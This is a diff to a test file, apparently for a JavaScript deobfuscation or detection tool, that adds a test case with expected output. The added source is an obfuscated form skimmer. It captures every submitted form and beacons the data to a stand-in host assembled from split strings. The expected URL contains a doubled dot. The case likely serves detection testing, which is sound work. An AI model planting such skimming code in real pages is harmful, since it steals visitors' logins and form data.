@@ -103,6 +103,13 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     has: ['window.fetch('],
   },
   {
+    name: "a helper beside the gate reads the gate's own vars as the arm left them",
+    source: `!function(t){if(t.FormData&&t.Proxy){var a=["https://","h.",".example","/c"];
+      t.addEventListener("submit",function(e){c(e.target)})}
+      function c(f){navigator.sendBeacon(a.slice(0,4).join(""),new FormData(f))}}(window)`,
+    has: ['sendBeacon("https://h..example/c"'],
+  },
+  {
     name: 'a page object checked with typeof is there, as it is on every page',
     source: `!function(){"use strict";if("undefined"!=typeof window&&"undefined"!=typeof document){
       var e,t,n=["a","b","c","fetch"];e=n,t=466,function(t){for(;--t;)e.push(e.shift())}(++t);
